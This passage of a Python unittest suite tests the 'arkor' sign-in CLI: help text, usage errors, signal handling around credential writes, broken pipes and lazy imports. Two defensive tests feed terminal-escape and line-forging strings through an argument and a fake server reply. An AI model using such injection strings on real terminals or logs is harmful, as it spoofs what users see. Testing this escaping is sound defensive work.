    def test_help_is_laid_out_for_80_columns_whatever_the_terminal(self) -> None:
        for argv in (["--help"], ["login", "--help"]):
            with self.subTest(argv=argv):
                shown = {columns: self.run_main(*argv, COLUMNS=columns) for columns in ("40", "80", "200")}
                self.assertEqual(shown["40"], shown["80"])
                self.assertEqual(shown["200"], shown["80"])
                self.assertEqual(shown["80"][2], "")
                self.assertLessEqual(max(len(line) for line in shown["80"][1].splitlines()), 80)

    def test_help_of_every_command_lists_its_options(self) -> None:
        # Each option spelled out: a new one must be added here, and so is
        # seen to be in its command's help.
        options = {
            None: ["-h, --help", "--version"],
            "login": ["-h, --help", "--oauth", "--anonymous", "--no-browser", "--timeout SECONDS"],
            "logout": ["-h, --help", "-y, --yes, -f, --force"],
            "whoami": ["-h, --help", "--json"],
        }
        for command, expected in options.items():
            name = [command] if command else []
            for flag in ("-h", "--help"):
                with self.subTest(command=command, flag=flag):
                    code, out, err = self.run_main(*name, flag, COLUMNS="80")
                    self.assertEqual((code, err), (0, ""))
                    self.assertTrue(out.startswith(CLI_USAGE[command] + "\n"), out)
                    section = re.split(r"\n(?:options|optional arguments):\n", out)[1].split("\n\n")[0]
                    listed = [
                        re.split(r"\s{2,}", line.strip())[0] for line in section.splitlines() if line.startswith("  -")
                    ]
                    self.assertEqual(listed, expected)
        code, out, _ = self.run_main("--help", COLUMNS="80")
        commands = out.split("\ncommands:\n", 1)[1].split("\n\n", 1)[0]
        self.assertEqual(
            commands,
            "  <command>\n"
            "    login     Sign in (OAuth in the browser, or an anonymous token).\n"
            "    logout    Delete the stored credentials.\n"
            "    whoami    Show the signed-in identity and its orgs.\n"
            "    token     Print the bearer token, for curl and other tools.",
        )
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_help_lists_every_environment_variable_read(self) -> None:
        code, out, _ = self.run_main("--help")
        self.assertEqual(code, 0)
        block = out.split("\nenvironment:\n", 1)[1].split("\n\n", 1)[0]
        documented = set(re.findall(r"\b[A-Z][A-Z0-9_]+\b", block))
        for variable in CLI_DOCUMENTED_ENV:
            with self.subTest(variable=variable):
                self.assertIn(variable, documented)
        with open(MODULE, encoding="utf-8") as f:
            read = cli_env_names_read(f.read())
        self.assertLessEqual({"ARKOR_CLOUD_API_URL", "ARKOR_HTTP_TIMEOUT", "CI", "NO_COLOR"}, read)  # the scan sees
        self.assertEqual(sorted(read - documented - CLI_PLATFORM_ENV), [], "read, but not in `arkor --help`")

    def test_no_command_is_a_usage_error(self) -> None:
        code, out, err = self.run_main(COLUMNS="80")
        self.assertEqual(
            (code, out, err),
            (2, "", CLI_USAGE[None] + "arkor: error: the following arguments are required: <command>\n"),
        )
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_usage_errors_exit_2(self) -> None:
        cases = {
            ("--bogus",): (None, "arkor: error: the following arguments are required: <command>"),
            ("--bogus", "whoami"): (None, "arkor: error: unrecognized arguments: --bogus"),
            ("-x", "whoami"): (None, "arkor: error: unrecognized arguments: -x"),
            # The usage of the command that was typed, and a near miss named.
            ("whoami", "whoami"): ("whoami", "arkor whoami: error: unrecognized arguments: whoami"),
            ("whoami", "--jsn"): ("whoami", "arkor whoami: error: unrecognized arguments: --jsn\nDid you mean --json?"),
            ("whoami", "json"): ("whoami", "arkor whoami: error: unrecognized arguments: json\nDid you mean --json?"),
            ("logout", "--yes", "now"): ("logout", "arkor logout: error: unrecognized arguments: now"),
            ("login", "--anonymus"): (
                "login",
                "arkor login: error: unrecognized arguments: --anonymus\nDid you mean --anonymous?",
            ),
            ("login", "--no-brwser=1", "x"): (
                "login",
                "arkor login: error: unrecognized arguments: --no-brwser=1 x\nDid you mean --no-browser?",
            ),
            ("--versoin", "whoami"): (None, "arkor: error: unrecognized arguments: --versoin\nDid you mean --version?"),
            ("login", "--timeout"): ("login", "arkor login: error: argument --timeout: expected one argument"),
        }
        for argv, (command, error) in cases.items():
            with self.subTest(argv=argv):
                code, out, err = self.run_main(*argv, COLUMNS="80")
                self.assertEqual((code, out, err), (2, "", CLI_USAGE[command] + error + "\n"))
        # Only the start: the list of choices is quoted differently across Pythons.
        for typed, hint in (
            ("frobnicate", ""),
            ("whoamj", "Did you mean whoami?\n"),
            ("logn", "Did you mean login?\n"),
        ):
            with self.subTest(typed=typed):
                code, out, err = self.run_main(typed, "--anonymous", COLUMNS="80")
                self.assertEqual((code, out), (2, ""))
                start = CLI_USAGE[None] + f"arkor: error: argument <command>: invalid choice: '{typed}' ("
                self.assertTrue(err.startswith(start), err)
                self.assertEqual(err.count("\n"), 2 + bool(hint), err)  # usage, error, and the hint
                self.assertTrue(err.endswith(")\n" + hint), err)
        self.assertEqual(self.cloud.requests, [])

    def test_a_near_miss_of_a_flag_typed_alone_is_named(self) -> None:
        # SPEC 1: a near miss of a flag gets "Did you mean"; `arkor --versoin`
        # alone is as near a miss of --version as `arkor --versoin whoami`.
        for typed in ("--versoin", "--verison"):
            with self.subTest(typed=typed):
                code, out, err = self.run_main(typed, COLUMNS="80")
                self.assertEqual((code, out), (2, ""))
                self.assertTrue(err.startswith(CLI_USAGE[None]), err)
                self.assertTrue(err.endswith("\nDid you mean --version?\n"), err)
        self.assertEqual(self.cloud.requests, [])

    def test_a_usage_error_quotes_argv_on_one_escaped_line(self) -> None:
        # argparse quotes what it did not recognise as it was given: a
        # terminal title sequence and a line break that forges a line.
        code, out, err = self.run_main("whoami", "--x\x1b]0;owned\x07\nforged", COLUMNS="80")
        self.assertEqual((code, out), (2, ""))
        self.assertEqual(
            err,
            CLI_USAGE["whoami"]
            + "arkor whoami: error: unrecognized arguments: --x\\u001b]0;owned\\u0007\\u000aforged\n",
        )
        self.assertNotIn("\x1b", err)
        self.assertNotIn("\x07", err)
        self.assertFalse(any(line.startswith("forged") for line in err.splitlines()), err)

    def test_login_timeout_must_be_positive_and_at_most_a_week(self) -> None:
        cases = {
            "1e9": "more than a week (604800 seconds): '1e9'",
            "inf": "more than a week (604800 seconds): 'inf'",
            "0": "not a positive number of seconds: '0'",
            "-1": "not a positive number of seconds: '-1'",
            "abc": "not a positive number of seconds: 'abc'",
            "nan": "not a positive number of seconds: 'nan'",
        }
        for value, problem in cases.items():
            with self.subTest(value=value):
                code, out, err = self.run_main("login", "--timeout", value, COLUMNS="80")
                self.assertEqual(
                    (code, out, err),
                    (2, "", CLI_USAGE["login"] + f"arkor login: error: argument --timeout: {problem}\n"),
                )
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_bad_http_timeout_is_one_line(self) -> None:
        self.sign_in_anon()
        cases = {
            "abc": "ARKOR_HTTP_TIMEOUT is not a positive number of seconds: 'abc'.\n",
            "1e9": "ARKOR_HTTP_TIMEOUT is more than a week (604800 seconds): '1e9'.\n",
        }
        for value, line in cases.items():
            with self.subTest(value=value):
                code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT=value)
                self.assertEqual((code, out, err), (1, "", line))
        self.assertEqual(self.cloud.requests, [])

    def test_main_returns_instead_of_exiting(self) -> None:
        # A caller embedding main() gets a status back, never a SystemExit
        # (run_main would let one through and fail the test).
        for argv, status in ((["--version"], 0), (["--help"], 0), (["--bogus"], 2), ([], 2), (["whoami"], 0)):
            with self.subTest(argv=argv):
                code, _, _ = self.run_main(*argv)
                self.assertIs(type(code), int)
                self.assertEqual(code, status)

    def test_three_ways_to_run(self) -> None:
        # The one file alone in an empty folder under -I (no site, no
        # PYTHON* variables), the module with -m, and import (run_main).
        folder = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, folder, True)
        shutil.copy(MODULE, folder)
        runs = [
            ([sys.executable, "-I", os.path.join(folder, "arkor_cli.py"), "whoami"], folder, NOT_SIGNED_IN),
            ([sys.executable, "-m", "arkor_cli", "--version"], HERE, f"arkor {arkor_cli.__version__}\n"),
        ]
        procs = [
            subprocess.Popen(
                cmd,
                cwd=cwd,
                env=self.env(),
                stdin=subprocess.DEVNULL,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for cmd, cwd, _ in runs
        ]
        for proc, (cmd, _, expected) in zip(procs, runs):
            with self.subTest(cmd=cmd[1:3]):
                out, err = proc.communicate(timeout=30)
                self.assertEqual((proc.returncode, out, err), (0, expected, ""))
        self.assertEqual(self.run_main("--version"), (0, f"arkor {arkor_cli.__version__}\n", ""))

    @unittest.skipUnless(hasattr(sys, "stdlib_module_names"), "Python 3.10+ lists the standard library")
    def test_standard_library_only(self) -> None:
        # Anywhere in the file, type-checking blocks included.
        import ast

        with open(MODULE, encoding="utf-8") as f:
            tree = ast.parse(f.read())
        found = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                found.update(alias.name.split(".")[0] for alias in node.names)
            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                found.add(node.module.split(".")[0])
        stdlib = set(getattr(sys, "stdlib_module_names", ()))  # 3.10+, as the decorator says
        self.assertIn("json", found)
        self.assertEqual(found - stdlib - {"__future__"}, set())

    def test_internal_error_is_one_line(self) -> None:
        # A bug must still end in one line and status 1, not a traceback;
        # ARKOR_DEBUG=1 puts the traceback before that line.
        # The bug here: a stdout whose write() raises what no stream should.
        line = "Internal error (RuntimeError). Set ARKOR_DEBUG=1 to see the traceback, and report it.\n"

        class Buggy(io.StringIO):
            def write(self, text: str) -> int:
                if text:
                    raise RuntimeError("secret-ish")
                return 0

        code, out, err = self.run_main("whoami", stdout=Buggy())
        self.assertEqual((code, out, err), (1, "", line))
        code, out, err = self.run_main("whoami", stdout=Buggy(), ARKOR_DEBUG="1")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith("Traceback (most recent call last):\n"), err)
        self.assertIn("\nRuntimeError: secret-ish\n", err)
        self.assertTrue(err.endswith("\n" + line), err)

    def test_debug_adds_traceback_to_an_error(self) -> None:
        self.write_creds(b"{not json")
        code, _, err = self.run_main("whoami", ARKOR_DEBUG="1")
        self.assertEqual(code, 1)
        self.assertTrue(err.startswith("Traceback (most recent call last):\n"), err)
        code, _, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        self.assertNotIn("Traceback", err)
        self.assertEqual(len(err.splitlines()), 1, err)

    def test_debug_traceback_escapes_server_text(self) -> None:
        # The exception's text quotes the server's body: in the traceback too,
        # it is escaped like every other line (no forged line, no escape code).
        self.sign_in_anon()
        forged = "<b>\x1b]0;pwned\x07\nFORGED: Signed in"
        self.cloud.script("GET", "/v1/me", Answer(200, body=forged.encode(), headers={"Content-Type": "text/plain"}))
        code, out, err = self.run_main("whoami", ARKOR_DEBUG="1")
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith("Traceback (most recent call last):\n"), err)
        self.assertIn("<b>\\u001b]0;pwned\\u0007", err)  # the body's first line, escaped
        self.assertNotIn("\x1b", err)
        self.assertNotIn("FORGED", err)


# Runs the command after it in a session of its own whose controlling
# terminal is its stdin, so that Ctrl-C typed on that terminal reaches it as
# SIGINT from the terminal driver, echo and all, as in a shell.
INTERRUPT_CTTY = (
    "import fcntl, os, sys, termios\n"
    "os.setsid()\n"
    "fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n"
    "os.execv(sys.executable, [sys.executable] + sys.argv[1:])\n"
)


class InterruptTest(OAuthCase):
    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
    def test_ctrl_c_exits_130_quietly(self) -> None:
        # stderr a pipe: the one line, no blank line before it.
        # Interrupted while reading the config, which changes nothing on the
        # server: nothing to hold the signal for.
        self.cloud.script("GET", "/v1/auth/cli/config", Answer(200, OAUTH_CONFIG, delay=30))
        proc = self.spawn("login")
        self.wait_until(lambda: self.cloud.seen("GET", "/v1/auth/cli/config"), 10)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=10)
        self.assertEqual((proc.returncode, out, err), (130, "", "Interrupted.\n"))
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX and hasattr(__import__("termios"), "TIOCSCTTY"), "needs a pty to be a terminal on")
    def test_ctrl_c_on_a_terminal_leaves_interrupted_on_a_line_of_its_own(self) -> None:
        import pty

        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, "-I", "-S", "-c", INTERRUPT_CTTY, MODULE, "login", "--oauth", "--no-browser"],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            env=self.env(NO_COLOR="1"),
            close_fds=True,
        )
        os.close(slave)
        self.addCleanup(os.close, master)
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        shown = b""
        typed = False
        deadline = time.monotonic() + 20  # a guard: only a broken product gets near it
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.1)
            if not ready:
                continue
            try:
                chunk = os.read(master, 4096)
            except OSError:  # EIO: every holder of the terminal has gone
                break
            if not chunk:
                break
            shown += chunk
            if not typed and shown.endswith(b"press Enter:\r\n"):  # waiting now, and nothing else to print
                os.write(master, b"\x03")
                typed = True
        self.assertTrue(typed, shown)
        self.assertEqual(proc.wait(timeout=10), 130)
        text = shown.decode().replace("\r\n", "\n")
        self._record(text)
        head, _, tail = text.partition("press Enter:\n")
        self.assertTrue(head.startswith("Browser: https://"), text)
        # The driver echoes ^C where the cursor was (the start of a line
        # here); Interrupted. still starts a line of its own after it.
        self.assertEqual(tail, "^C\nInterrupted.\n")
        self.assertFalse(os.path.exists(self.creds))
        self.assert_port_closed(self.ports[0])


class SignalHoldTest(OAuthCase):
    """SPEC 3.1, no signal between a server's commit and the file: for each
    request that changes state on a server (anonymous sign-in, code exchange,
    refresh, revoke), a real process gets a real signal at the moment the
    fake server has done its work, before its answer leaves. What the server
    did must still reach the file, and the command then ends as the signal
    asks: 130 and ``Interrupted.`` for SIGINT, the signal's own end for
    SIGTERM and SIGHUP."""

    @contextlib.contextmanager
    def child_disposition(self, sig: int, ignored: bool) -> Iterator[None]:
        """Processes started inside begin with ``sig`` ignored (as under
        nohup, or SIGINT for a job started with ``&`` in a script) or, by
        default, acting on it, whatever this test run itself inherited: an
        ignored signal is the one disposition that survives exec."""
        before = signal.getsignal(sig)
        if ignored:
            signal.signal(sig, signal.SIG_IGN)
        elif before == signal.SIG_IGN:
            signal.signal(sig, signal.SIG_DFL)
        try:
            yield
        finally:
            signal.signal(sig, before if before is not None else signal.SIG_DFL)

    def signal_at_commit(
        self,
        sig: int,
        fake: FakeCloudApi | FakeAuth0,
        route: tuple[str, str],
        work: Callable[[Any], Answer],
        *argv: str,
        ignored: bool = False,
        **env: str | None,
    ) -> tuple[int, str, str, dict[str, Any]]:
        """``arkor *argv`` as a real process, sent ``sig`` once ``fake`` has
        done ``work`` (what the server commits, and the answer it makes) for
        the first request to ``route``, and before that answer is sent; the
        answer is released right after the signal. The process acts on
        ``sig`` unless ``ignored`` (see child_disposition). Returns its
        status, stdout and stderr, and the JSON body of that answer. Later
        requests to the route are answered by ``work`` at once."""
        import threading

        committed, release = threading.Event(), threading.Event()
        given: list[Answer] = []

        def held(seen: Any) -> Answer:
            answer = work(seen)
            given.append(answer)
            committed.set()
            release.wait(10)  # a bound only: the test releases it at once
            return answer

        fake.script(*route, held, work)
        self.addCleanup(release.set)  # no handler thread left waiting, whatever happens
        with self.child_disposition(sig, ignored):
            proc = self.spawn(*argv, **env)
        if not committed.wait(10):
            proc.kill()
            out, err = proc.communicate(timeout=20)
            self.fail(f"{route} never reached the server: {proc.returncode} {out!r} {err!r}")
        proc.send_signal(sig)
        release.set()
        out, err = proc.communicate(timeout=20)  # a bound only: it ends at once
        self._record(out, err)
        self.assertNotIn("Traceback", err)
        return proc.returncode, out, err, json.loads(given[0].body or b"{}")

    def assert_anonymous_identity_stored(self, minted: dict[str, Any]) -> None:
        self.assertTrue(os.path.exists(self.creds), "the identity the server minted is lost")
        self.assertEqual(
            self.read_creds(),
            {
                "mode": "anon",
                "token": minted["token"],
                "anonymousId": minted["anonymousId"],
                "arkorCloudApiUrl": self.cloud.url,
                "orgSlug": minted["personalOrg"]["slug"],
            },
        )
        self.assertEqual(self.leftovers(), [])

    def refresh_at(self, sig: int, ignored: bool = False) -> tuple[int, str, str, dict[str, Any], dict[str, Any]]:
        """``whoami`` renewing an expired OAuth token with rotation, sent
        ``sig`` once Auth0 has spent the old refresh token and issued its
        successor: status, stdout, stderr, the credentials before, and
        Auth0's answer."""
        self.auth0.rotate = True
        old = self.sign_in_oauth(expires_in=-100)
        code, out, err, answer = self.signal_at_commit(
            sig, self.auth0, ("POST", "/oauth/token"), self.auth0._default, "whoami", ignored=ignored
        )
        self.assertFalse(self.auth0.accepts(old["refreshToken"]), "the old refresh token was not spent")
        return code, out, err, old, answer

    def assert_rotation_stored(self, old: dict[str, Any], answer: dict[str, Any], me_seen: int = 0) -> None:
        """The file holds the successor Auth0 issued, and a later command
        goes on with it: no reuse of the spent token, no sign-in lost.
        ``me_seen``: how many ``/v1/me`` the signalled command sent (none,
        when the signal ended it)."""
        stored = self.read_creds()
        self.assertEqual(stored["refreshToken"], answer["refresh_token"], "the successor never reached the file")
        self.assertEqual(stored["refreshToken"], self.auth0.newest_refresh_token())
        self.assertTrue(self.auth0.accepts(stored["refreshToken"]))
        self.assertEqual(
            stored,
            {
                **old,
                "accessToken": answer["access_token"],
                "refreshToken": answer["refresh_token"],
                "expiresAt": stored["expiresAt"],
            },
        )
        self.assertEqual(self.leftovers(), [])
        self.assertEqual(len(self.cloud.seen("GET", "/v1/me")), me_seen)
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)  # the stored token was fresh
        self.assertTrue(self.auth0.accepts(stored["refreshToken"]))

    @unittest.skipUnless(POSIX, "real signals to a child are POSIX here")
    def test_sigint_during_anonymous_sign_in_keeps_the_minted_identity(self) -> None:
        code, _, err, minted = self.signal_at_commit(
            signal.SIGINT, self.cloud, ("POST", "/v1/auth/anonymous"), self.cloud._default, "login", "--anonymous"
        )
        self.assertEqual((code, err), (130, "Interrupted.\n"))
        self.assert_anonymous_identity_stored(minted)

    @unittest.skipUnless(POSIX, "real signals to a child are POSIX here")
    def test_sigterm_during_anonymous_sign_in_keeps_the_minted_identity(self) -> None:
        code, _, err, minted = self.signal_at_commit(
            signal.SIGTERM, self.cloud, ("POST", "/v1/auth/anonymous"), self.cloud._default, "login", "--anonymous"
        )
        self.assertEqual((code, err), (-signal.SIGTERM, ""))
        self.assert_anonymous_identity_stored(minted)

    @unittest.skipUnless(POSIX, "real signals to a child are POSIX here")
    def test_sigterm_while_deciding_again_without_a_question_keeps_the_minted_identity(self) -> None:
        # The Node CLI stores another identity while the sign-in is answered:
        # with --anonymous and nobody to ask, the login replaces it at once,
        # still under the hold, so the signal waits for that too.
        other = anon_file(self, "anon-node")

        def work(seen: Any) -> Answer:
            node_writes(self, other)
            return self.cloud._default(seen)

        code, _, err, minted = self.signal_at_commit(
            signal.SIGTERM, self.cloud, ("POST", "/v1/auth/anonymous"), work, "login", "--anonymous"
        )
        self.assertEqual(code, -signal.SIGTERM, err)
        self.assert_anonymous_identity_stored(minted)

    @unittest.skipUnless(POSIX, "real signals to a child are POSIX here")
    def test_sigint_during_a_rotating_refresh_keeps_the_successor(self) -> None:
        code, _, err, old, answer = self.refresh_at(signal.SIGINT)
        self.assertEqual((code, err), (130, "Interrupted.\n"))
        self.assert_rotation_stored(old, answer)  # and the command ended there, before /v1/me

    @unittest.skipUnless(POSIX and hasattr(signal, "SIGHUP"), "SIGHUP is POSIX")
    def test_sighup_during_a_rotating_refresh_keeps_the_successor(self) -> None:
        code, _, err, old, answer = self.refresh_at(signal.SIGHUP)
        self.assertEqual((code, err), (-signal.SIGHUP, ""))
        self.assert_rotation_stored(old, answer)

    @unittest.skipUnless(POSIX and hasattr(signal, "SIGHUP"), "SIGHUP is POSIX")
    def test_an_ignored_sighup_stays_ignored_through_the_hold(self) -> None:
        # Under nohup the terminal hanging up must not end the command: once
        # held, the signal is delivered as it would have been, to nothing.
        code, out, err, old, answer = self.refresh_at(signal.SIGHUP, ignored=True)
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
        self.assert_rotation_stored(old, answer, me_seen=1)

    @unittest.skipUnless(POSIX, "real signals to a child are POSIX here")
    def test_sigint_during_the_code_exchange_keeps_the_sign_in(self) -> None:
        code, out, err, answer = self.signal_at_commit(
            signal.SIGINT,
            self.auth0,
            ("POST", "/oauth/token"),
            self.auth0._default,
            "login",
            "--oauth",
            BROWSER=fake_browser(),
        )
        self.assertEqual((code, err), (130, "Interrupted.\n"))
        self.assertTrue(out.startswith("Browser: https://"), out)
        self.assertEqual(self.browser_saw()[0], 200)  # the listener took the code before the exchange
        self.assertTrue(os.path.exists(self.creds), "the sign-in Auth0 granted is lost")
        stored = self.read_creds()
        self.assertIsInstance(stored["expiresAt"], int)
        self.assertEqual(
            stored,
            {
                "mode": "oauth",
                "accessToken": answer["access_token"],
                "refreshToken": answer["refresh_token"],
                "expiresAt": stored["expiresAt"],
                "auth0Domain": self.auth0.domain,
                "audience": self.auth0.audience,
                "clientId": self.auth0.client_id,
                "arkorCloudApiUrl": self.cloud.url,
            },
        )
        self.assertTrue(self.auth0.accepts(stored["refreshToken"]))
        self.assertEqual(self.leftovers(), [])
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)

    @unittest.skipUnless(POSIX, "real signals to a child are POSIX here")
    def test_sigint_during_the_revocation_still_removes_the_file(self) -> None:
        stored = self.sign_in_oauth()
        code, _, err, _ = self.signal_at_commit(
            signal.SIGINT, self.auth0, ("POST", "/oauth/revoke"), self.auth0._default, "logout", "-y"
        )
        self.assertEqual((code, err), (130, "Interrupted.\n"))
        self.assertEqual([form["token"] for form in self.auth0.revoked], [stored["refreshToken"]])
        self.assertFalse(self.auth0.accepts(stored["refreshToken"]))
        # A revoked session must not stay on disk reading as signed in.
        self.assertFalse(os.path.exists(self.creds), "the revoked session stayed on disk")
        self.assertEqual(self.leftovers(), [])
        self.assertEqual(self.run_main("whoami"), (0, NOT_SIGNED_IN, ""))


class PipeTest(Case):
    @unittest.skipUnless(POSIX, "SIGPIPE and pipe buffers as on POSIX")
    def test_broken_pipe_ends_quietly(self) -> None:
        # `arkor whoami | head -n 1`: the reader goes away after one line,
        # with far more still to come than any pipe buffer holds, so a write
        # is sure to fail. Quiet, and status 1: the output was lost.
        self.sign_in_anon()
        big = {f"field{i}": "v" * 100 for i in range(3000)}  # ~330 KB
        self.cloud.add_token("anon-token-stored", user=big, orgs=[])
        proc = self.spawn("whoami")
        assert proc.stdout is not None and proc.stderr is not None
        first = proc.stdout.readline()
        proc.stdout.close()
        err = proc.stderr.read()
        proc.stderr.close()
        self._record(first, err)
        self.assertEqual((proc.wait(timeout=30), first, err), (1, "{\n", ""))


class LazyImportTest(Case):
    """Start-up stays cheap: what only the network, the browser and the OAuth
    listener need is not imported by ``import arkor_cli``, nor by the commands
    that never go on the network.

    Nothing is timed. One fresh interpreter, with -I (no PYTHON* variables,
    no user site-packages) and -S (no site hooks: a .pth file that imports
    one of these modules first, as one on this machine does with typing,
    would hide an eager import), imports arkor_cli and runs the commands one
    after the other through main(), saying after each which of the watched
    modules have appeared since the interpreter started.
    """

    KEPT_OUT = ("ssl", "urllib.request", "http.client", "http.server", "webbrowser", "secrets", "typing")

    # argv: the repo dir, the watched modules (comma-separated), then one
    # command line per argument (words split on spaces).
    RUNNER = (
        "import sys\n"
        "before = set(sys.modules)\n"
        "here, watched, runs = sys.argv[1], sys.argv[2].split(','), sys.argv[3:]\n"
        "sys.path.insert(0, here)\n"
        "def report(name, status):\n"
        "    new = sorted(m for m in watched if m in sys.modules and m not in before)\n"
        "    sys.stdout.flush()\n"
        "    print('\\n@@ %s STATUS:%s LOADED:%s' % (name, status, ','.join(new)), flush=True)\n"
        "import arkor_cli\n"
        "report('import', 0)\n"
        "for run in runs:\n"
        "    report(run, arkor_cli.main(run.split()))\n"
    )

    def test_commands_that_send_nothing_import_no_network_browser_or_typing(self) -> None:
        runs = ["--help", "logout", "whoami", "whoami --json", "login --anonymous"]
        cmd = [sys.executable, "-I", "-S", "-c", self.RUNNER, HERE, ",".join(self.KEPT_OUT), *runs]
        proc = subprocess.run(
            cmd, capture_output=True, text=True, env=self.env(), cwd=self.home, timeout=30, check=False
        )
        self._record(proc.stdout, proc.stderr)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        reports = dict(re.findall(r"^@@ (.+?) (STATUS:\d+ LOADED:\S*)$", proc.stdout, re.MULTILINE))
        self.assertEqual(list(reports), ["import", *runs], proc.stdout + proc.stderr)
        for run, status in (("import", 0), ("--help", 0), ("logout", 0), ("whoami", 0), ("whoami --json", 1)):
            with self.subTest(run=run):
                # Each adds to what came before: none at all.
                self.assertEqual(reports[run], f"STATUS:{status} LOADED:")
        self.assertIn("usage: arkor", proc.stdout)
        self.assertIn("\nNo credentials on file.\n", proc.stdout)
        self.assertIn("\n" + NOT_SIGNED_IN, proc.stdout)
        self.assertTrue(proc.stderr.startswith(NOT_SIGNED_IN), proc.stderr)  # whoami --json says it on stderr
        # The check sees an import: the CI sign-in goes on the network (and
        # still needs no browser, listener or OAuth secrets).
        self.assertIn("Signed in anonymously", proc.stdout)
        status, _, loaded = reports["login --anonymous"].partition(" ")
        self.assertEqual(status, "STATUS:0")
        loaded_modules = loaded[len("LOADED:") :].split(",")
        self.assertIn("http.client", loaded_modules)
        self.assertIn("urllib.request", loaded_modules)  # the one opener every request goes through
        self.assertEqual({"webbrowser", "http.server", "secrets"} & set(loaded_modules), set())


# ---------------------------------------------------------------------------
# The README, the fuzz findings (the driver is test_fuzz.py) and SECURITY.md
# ---------------------------------------------------------------------------


# The README's lines that are shown but not run by ReadmeTest, each with what runs it instead.
README_RUN_ELSEWHERE = {
    "python3 -m unittest": "this suite itself",
    "pipx install .": ".ci/run: pipx-install (the wheel built from this checkout)",
    "pip install .": ".ci/run: package-install, package-version, package-whoami",
    "bash .ci/run": "CI itself",
}


class ReadmeTest(OAuthCase):
    """The README's code blocks, run in order as a newcomer would run them,
    against the fake cloud-api and Auth0, in one throwaway HOME, with an
    ``arkor`` command on PATH that runs this checkout's arkor_cli.py."""

    def blocks(self) -> list[tuple[str, str]]:
        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
            text = f.read()
        return re.findall(r"^```(\w+)\n(.*?)^```$", text, re.MULTILINE | re.DOTALL)

    def workplace(self) -> tuple[str, dict[str, str]]:
        """A folder holding the checkout's files, and an environment with an
        ``arkor`` command, the fake's address, its CA and a stand-in browser."""
        place = os.path.join(self.home, "work")
        bin_dir = os.path.join(self.home, "bin")
        os.makedirs(bin_dir)
        os.makedirs(place)
        for name in ("arkor_cli.py", "fake_cloud.py", "bench.py", "tests"):
            os.symlink(os.path.join(HERE, name), os.path.join(place, name))
        shim = os.path.join(bin_dir, "arkor")
        with open(shim, "w", encoding="utf-8") as f:
            # -m, as the installed command does: the bytecode is compiled once, not at every run.
            f.write(f'#!/bin/sh\nPYTHONPATH="{HERE}" exec "{sys.executable}" -m arkor_cli "$@"\n')
        os.chmod(shim, 0o755)
        python = os.path.join(bin_dir, "python3")
        os.symlink(sys.executable, python)
        env = self.env(BROWSER=fake_browser(), PATH=bin_dir + os.pathsep + os.environ.get("PATH", os.defpath))
        return place, env

    @staticmethod
    def reap(proc: subprocess.Popen[str]) -> None:
        if proc.poll() is None:
            proc.kill()
        proc.wait()
        for stream in (proc.stdout, proc.stderr):
            if stream is not None:
                stream.close()

    def run_block(self, code: str, place: str, env: dict[str, str]) -> str:
        """Run one block with bash -e; a Browser: line it prints is followed
        by a stand-in browser, as a person would open it."""
        import threading

        proc = subprocess.Popen(
            ["bash", "-e", "-o", "pipefail", "-c", code],
            cwd=place,
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        self.addCleanup(self.reap, proc)
        lines: list[str] = []
        assert proc.stdout is not None and proc.stderr is not None
        errors: list[str] = []
        reader = threading.Thread(target=lambda: errors.append(proc.stderr.read() if proc.stderr else ""))
        reader.start()
        for line in proc.stdout:
            lines.append(line)
            if line.startswith("Browser: ") and "--no-browser" in code:
                browse(line[len("Browser: ") :].strip())
        code_ = proc.wait(timeout=60)
        reader.join(30)
        out, err = "".join(lines), "".join(errors)
        self._record(out, err)
        self.assertEqual(code_, 0, f"README block failed:\n{code}\nstdout:\n{out}\nstderr:\n{err}")
        self.assertNotIn("Traceback", err)
        return out

    def test_every_code_block_runs(self) -> None:
        import threading

        place, env = self.workplace()
        failures: list[BaseException] = []

        def run_demo() -> None:
            try:
                self.demo(place, env)
            except BaseException as exc:  # noqa: BLE001 - raised again in the test's own thread
                failures.append(exc)

        demo = threading.Thread(target=run_demo, name="readme-demo")
        ran = 0
        skipped: set[str] = set()
        for language, code in self.blocks():
            if language == "text":
                continue  # output shown, not commands
            with self.subTest(block=code.splitlines()[0]):
                if language == "python":
                    proc = subprocess.run(
                        [sys.executable, "-c", code],
                        cwd=place,
                        env=env,
                        capture_output=True,
                        text=True,
                        timeout=60,
                        check=False,
                    )
                    self._record(proc.stdout, proc.stderr)
                    self.assertEqual((proc.returncode, proc.stderr), (0, ""))
                    ran += 1
                    continue
                self.assertEqual(language, "sh")
                kept = []
                for line in code.splitlines():
                    command = line.split("#", 1)[0].strip()
                    if command in README_RUN_ELSEWHERE:
                        skipped.add(command)
                    elif command == "python3 fake_cloud.py":
